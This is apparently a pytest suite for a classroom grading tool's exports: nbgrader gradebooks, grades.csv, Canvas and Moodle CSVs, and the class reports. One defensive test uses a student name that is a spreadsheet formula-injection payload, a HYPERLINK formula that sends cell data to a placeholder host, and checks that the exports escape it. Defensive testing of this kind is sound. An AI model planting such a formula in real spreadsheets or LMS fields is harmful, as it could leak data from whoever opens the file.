"""Exports are views of the gradebook (issue 28, items 2, 4, 5 and the class report's faults).

A small gradebook is written here with nbgrader's own API (two lessons, students who handed
in, one who did not, one whose submission needs a human), and grades.csv, canvas.csv, the
Moodle worksheets, the report and class_report.html are written from it as a run writes them
(`run.save_outputs`' parts), so each property is checked in milliseconds; the same with the
real grading command, lessons 06 then 04, is test_exports_after_two_runs.py.
"""

from __future__ import annotations

import csv
import time
from pathlib import Path

import pytest

from classroom.grading import class_report, exports, records, report
from classroom.grading.lms import canvas
from classroom.grading.plan import RunFacts
from classroom.grading.results import (
    GRADED,
    GRADED_WITH_NOTES,
    LATE,
    NEEDS_HUMAN,
    NOT_SUBMITTED,
    Grade,
    Note,
    Result,
)

COURSE = "mujoco-physics"
A, B = "04-frames-and-quaternions", "06-slender-parts"
CELLS = {"test_a": 2.0, "test_b": 3.0}  # grade_id: points, in each lesson

# The fixtures write submissions with nbgrader's add_submission, which trips SQLAlchemy 2's
# autoflush warnings (nbgrader's code; the grading command's own writes do not).
pytestmark = pytest.mark.filterwarnings("ignore:.*not in session")


def make_gradebook(path: Path, scores: dict[tuple[str, str], dict[str, float]], students) -> str:
    """A gradebook with lessons A and B (one notebook, CELLS), `students` ({id: (first,
    last)}) and a submission per key of `scores` ({(lesson, student): {cell: points}})."""
    from nbgrader.api import Gradebook

    records.read_alembic_head_in_process()  # as the run does (no `alembic` on PATH needed)
    url = f"sqlite:///{path}"
    with Gradebook(url, COURSE) as gb:
        for lesson in (A, B):
            gb.update_or_create_assignment(lesson)
            gb.update_or_create_notebook(lesson, lesson)
            for cell, points in CELLS.items():
                gb.update_or_create_grade_cell(
                    cell, lesson, lesson, max_score=points, cell_type="code"
                )
        for student, (first, last) in students.items():
            gb.update_or_create_student(student, first_name=first, last_name=last)
        for (lesson, student), cells in scores.items():
            gb.add_submission(lesson, student)
            for cell, points in cells.items():
                grade = gb.find_grade(cell, lesson, lesson, student)
                grade.auto_score = points
            gb.db.commit()
    return url


def result(lesson, student, status=GRADED, reason=None, points=None, **extra) -> Result:
    """A result as the grading command keeps it (the journal's), with its cells' points."""
    made = Result(0, student, lesson, status, reason, **extra)
    for cell, got in (points or {}).items():
        made.grades.append(Grade(lesson, cell, got, CELLS[cell]))
    return made


@pytest.fixture
def term(tmp_path):
    """Lessons A and B in the gradebook; this "run" graded A only (the results of B come
    from an earlier run); 1003 handed in nothing for B; 1004's B needs a human."""
    students = {"1001": ("María", "García"), "1002": ("Zoë", "Smith"), "1003": ("Lei", "Li")}
    students["1004"] = ("Ann", "Lee")
    scores = {
        (B, "1001"): {"test_a": 2, "test_b": 3},
        (B, "1002"): {"test_a": 2, "test_b": 0},
        (B, "1004"): {"test_a": 0, "test_b": 0},
        (A, "1001"): {"test_a": 0, "test_b": 3},
        (A, "1003"): {"test_a": 2, "test_b": 3},
    }
    url = make_gradebook(tmp_path / "gradebook.db", scores, students)
    why = "only 10% of the lesson's graded cells were recognised: this may not be its notebook"
    results = [
        result(B, "1001", points={"test_a": 2, "test_b": 3}),
        result(B, "1002", GRADED_WITH_NOTES, "notes: renamed", {"test_a": 2, "test_b": 0}),
        result(B, "1004", NEEDS_HUMAN, why, {"test_a": 0, "test_b": 0}),
        result(A, "1001", points={"test_a": 0, "test_b": 3}),
        result(A, "1003", LATE, "handed in late by 2.0 h; penalty 0", {"test_a": 2, "test_b": 3}),
    ]
    (tmp_path / canvas.IDS_FILE).write_text(f"lesson,canvas_assignment_id\n{B},12345\n")
    return {"root": tmp_path, "url": url, "results": results, "why": why}


def read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_grades_csv_holds_every_lesson_with_one_status_a_row(term):
    book = records.read_book(term["url"], COURSE)
    assert book.lessons == (A, B)
    path = records.export_csv(book, term["results"], term["root"] / "grades.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = {(r["assignment"], r["student_id"]): r for r in csv.DictReader(handle)}
    assert len(rows) == 8, "every student a row in every lesson"
    assert rows[(A, "1003")]["status"] == LATE
    assert rows[(A, "1003")]["reason"] == "handed in late by 2.0 h; penalty 0"
    assert rows[(A, "1002")]["status"] == NOT_SUBMITTED
    assert rows[(B, "1004")]["status"] == NEEDS_HUMAN and rows[(B, "1004")]["reason"]
    assert rows[(B, "1002")]["status"] == GRADED_WITH_NOTES
    assert float(rows[(B, "1001")]["score"]) == 5.0 and float(rows[(A, "1001")]["score"]) == 3
    assert {r["status"] for r in rows.values()} <= set(
        [GRADED, GRADED_WITH_NOTES, LATE, NEEDS_HUMAN, NOT_SUBMITTED]
    )
    assert rows[(B, "1001")]["first_name"] == "María"


def test_canvas_csv_has_every_lesson_with_an_id_and_refuses_the_others(term):
    book = records.read_book(term["url"], COURSE)
    ids = canvas.ids_of(term["root"])
    written, refused = exports.write_all(
        term["root"], book, term["results"], ["canvas"], {"canvas": ids}
    )
    header, possible, *rows = read_csv(term["root"] / "exports" / "canvas.csv")
    assert header == canvas.COLUMNS + [f"{B} (12345)"], "B kept its id; A left out"
    assert possible[-1] == "5"
    assert refused.count("\n") == 0 and A in refused and B not in refused
    assert f"--canvas-assignment {A}=ID" in refused and canvas.IDS_FILE in refused
    cells = {row[1]: row[-1] for row in rows}
    assert cells == {"1001": "5", "1002": "2", "1004": ""}, "needs a human: empty, not 0"
    assert {row[1]: row[0] for row in rows}["1001"] == "García, María"
    canvas.keep_ids(term["root"], {A: "777"})
    _, refused = exports.write_all(
        term["root"], book, term["results"], ["canvas"], {"canvas": canvas.ids_of(term["root"])}
    )
    header = read_csv(term["root"] / "exports" / "canvas.csv")[0]
    assert header[-2:] == [f"{A} (777)", f"{B} (12345)"] and refused is None
    assert read_csv(term["root"] / canvas.IDS_FILE) == [
        ["lesson", "canvas_assignment_id"], [A, "777"], [B, "12345"],
    ]  # fmt: skip


def test_canvas_ids_of_a_course_from_before_the_file_come_from_its_canvas_csv(tmp_path):
    old = tmp_path / "exports" / "canvas.csv"
    old.parent.mkdir()
    old.write_text(",".join(canvas.COLUMNS + [f"{B} (55)", A]) + "\n")
    assert canvas.ids_of(tmp_path) == {B: "55"}
    canvas.keep_ids(tmp_path, {A: "56"})
    assert canvas.ids_of(tmp_path) == {B: "55", A: "56"}


def test_moodle_worksheet_in_the_form_moodles_importer_reads(term):
    """Moodle's assignment importer, mod/assign/feedback/offline/importgradeslib.php (init):
    it finds its columns by title and refuses the upload ("invalidgradeimport") unless
    "Identifier" (get_string('recordid', 'assign')), "Grade" and "Last modified (grade)"
    (get_string('lastmodifiedgrade', 'assign')) are all there; next() strips the
    "Participant" prefix from the identifier to find the participant; the feedback column
    is matched by the comments plugin's title "Feedback comments". locallib.php
    (process_import_grades) skips an empty grade, and strtotime()s "Last modified (grade)"."""
    book = records.read_book(term["url"], COURSE)
    exports.write_all(term["root"], book, term["results"], ["moodle"])
    for lesson in (A, B):
        header, *rows = read_csv(term["root"] / "exports" / f"moodle-{lesson}.csv")
        for required in ("Identifier", "Grade", "Last modified (grade)", "Feedback comments"):
            assert required in header, (lesson, required)
        column = {name: header.index(name) for name in header}
        for row in rows:
            assert row[column["Identifier"]].startswith("Participant ")
            stamp = row[column["Last modified (grade)"]]
            assert time.strptime(stamp, "%Y-%m-%dT%H:%M:%S%z"), stamp
    header, *rows = read_csv(term["root"] / "exports" / f"moodle-{B}.csv")
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert set(by_id) == {"Participant 1001", "Participant 1002", "Participant 1004"}
    assert by_id["Participant 1001"]["Grade"] == "5"
    human = by_id["Participant 1004"]
    assert human["Grade"] == "" and "instructor" in human["Feedback comments"]
    assert term["why"] in human["Feedback comments"]
    a_rows = read_csv(term["root"] / "exports" / f"moodle-{A}.csv")[1:]
    assert [r[0] for r in a_rows] == ["Participant 1001", "Participant 1003"]
    assert a_rows[1][header.index("Grade")] == "5", "late, graded: its points go to Moodle"


def test_a_student_who_handed_nothing_in_is_empty_and_said_so(term):
    """The grading command records a row for a student of the class with nothing for a
    lesson (0 in the gradebook, as nbgrader does): empty in the LMS files, said as such."""
    from nbgrader.api import Gradebook

    with Gradebook(term["url"], COURSE) as gb:
        gb.add_submission(A, "1002")
    results = term["results"] + [result(A, "1002", NOT_SUBMITTED, f"nothing handed in for {A}")]
    book = records.read_book(term["url"], COURSE)
    exports.write_all(term["root"], book, results, ["moodle", "canvas"], {"canvas": {A: "1"}})
    header, *rows = read_csv(term["root"] / "exports" / f"moodle-{A}.csv")
    row = dict(zip(header, {r[0]: r for r in rows}["Participant 1002"], strict=True))
    assert row["Grade"] == "" and row["Feedback comments"] == f"Nothing handed in for {A}."
    canvas = {r[1]: r[-1] for r in read_csv(term["root"] / "exports" / "canvas.csv")[2:]}
    assert canvas["1002"] == "" and canvas["1001"] == "3"


def test_report_and_class_report_open_with_the_rows_that_need_a_human(term, tmp_path):
    path = report.write_report(tmp_path / "grading_report.txt", term["results"], RunFacts())
    text = path.read_text(encoding="utf-8")
    first = text.index("Needs a human (1)")
    assert first < text.index("Every submission")
    assert f"1004 ({B}): {term['why']}" in text[first : text.index("Every submission")]


def test_class_report_has_every_lesson_and_no_blank_answers_as_mistakes(term, tmp_path):
    """class_report.html: a section per lesson it is given (the gradebook's, not the last
    run's), the rows that need a human first; a blank answer's "returned None" (course.
    expect.NotAnswered) is not a mistake the class made."""
    from classroom.nbgrader_ext import notebooks

    root = Path(__file__).resolve().parents[2]
    lessons = [x for x in (A, B) if x in notebooks.discover_lessons(root)]
    if len(lessons) < 2:
        pytest.skip("lessons 04 and 06 not in source/")
    results = list(term["results"])
    blank = "double returned None: write the function's body."
    wrong = "x_axis(q) gave [0, 1, 0]: did you rotate by the conjugate?"
    for number, res in enumerate(results):
        res.failures = {"test_a": blank if number % 2 else wrong}
    page = class_report.write(root, results, lessons, COURSE, out=tmp_path)
    text = page.read_text(encoding="utf-8")
    assert (
        text.index("Needs a human (1)") < text.index(f"<h2>{A}</h2>") < text.index(f"<h2>{B}</h2>")
    )
    assert "returned None" not in text and "conjugate" in text


def test_statuses_settle_from_notes_and_lateness():
    made = Result(0, "1", A, notes=[Note("wrong-notebook", "only 5% ... not its notebook")])
    made.settle()
    assert (made.status, made.reason) == (NEEDS_HUMAN, "only 5% ... not its notebook")
    late = Result(0, "1", A, late_seconds=7200.0, late_penalties={A: 1.0})
    late.settle()
    assert (late.status, late.reason) == (LATE, "handed in late by 2.0 h; penalty 1")
    noted = Result(0, "1", A, notes=[Note("renamed", "handed in as x"), Note("reused", "r")])
    noted.settle()
    assert noted.status == GRADED_WITH_NOTES and "renamed" in noted.reason
    old = Result.from_dict({"id": 0, "student": "1", "lesson": A, "status": "not graded"})
    assert old.status == NEEDS_HUMAN


def test_one_save_of_a_40_student_gradebook_is_cheap(tmp_path, capsys):
    """The run saves its outputs periodically (run.Recorder): one save reads the gradebook
    once and writes grades.csv and the LMS files. Measured here on 40 students x 2 lessons."""
    students = {f"{1000 + n}": (f"First{n}", f"Last{n}") for n in range(40)}
    scores = {
        (x, s): {"test_a": 2, "test_b": n % 4} for x in (A, B) for n, s in enumerate(students)
    }
    url = make_gradebook(tmp_path / "gradebook.db", scores, students)
    results = [result(x, s, points=p) for (x, s), p in scores.items()]
    (tmp_path / canvas.IDS_FILE).write_text(f"lesson,canvas_assignment_id\n{A},1\n{B},2\n")
    timings = []
    for _ in range(3):
        start = time.perf_counter()
        book = records.read_book(url, COURSE)
        records.export_csv(book, results, tmp_path / "grades.csv")
        exports.write_all(
            tmp_path, book, results, ["canvas", "moodle"], {"canvas": {A: "1", B: "2"}}
        )
        timings.append(time.perf_counter() - start)
    with capsys.disabled():
        print(f"\none save, 40 students x 2 lessons: best {min(timings) * 1000:.0f} ms")
    assert len(read_csv(tmp_path / "grades.csv")) == 81
    assert min(timings) < 2.0, timings


def test_a_name_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    """A learner who names themselves '=HYPERLINK(...)' in the LMS: every grade file shows the
    name with a leading apostrophe (text in a spreadsheet), and the numbers stay numbers."""
    first, last = '=HYPERLINK("http://x.example/?"&A1,"grades")', "@SUM(1+1)"
    url = make_gradebook(tmp_path / "gradebook.db", {(B, "1001"): CELLS}, {"1001": (first, last)})
    (tmp_path / canvas.IDS_FILE).write_text(f"lesson,canvas_assignment_id\n{B},12345\n")
    results = [result(B, "1001", points=CELLS, name=f"{first} {last}")]
    book = records.read_book(url, COURSE)
    records.export_csv(book, results, tmp_path / "grades.csv")
    exports.write_all(
        tmp_path, book, results, ["canvas", "moodle"], {"canvas": canvas.ids_of(tmp_path)}
    )
    exports.questions(results, B, tmp_path / "exports")
    files = [tmp_path / "grades.csv", *sorted((tmp_path / "exports").glob("*.csv"))]
    assert len(files) == 4, files
    for path in files:
        cells = [cell for row in read_csv(path) for cell in row]
        named = [cell for cell in cells if "HYPERLINK" in cell or "SUM(" in cell]
        assert named, f"{path.name} holds no name: is this test still real?"
        assert not [cell for cell in named if cell.startswith(records.FORMULA_STARTS)], path.name
    assert records.spreadsheet_cell("-0.5") == "-0.5" and records.spreadsheet_cell(-2) == -2
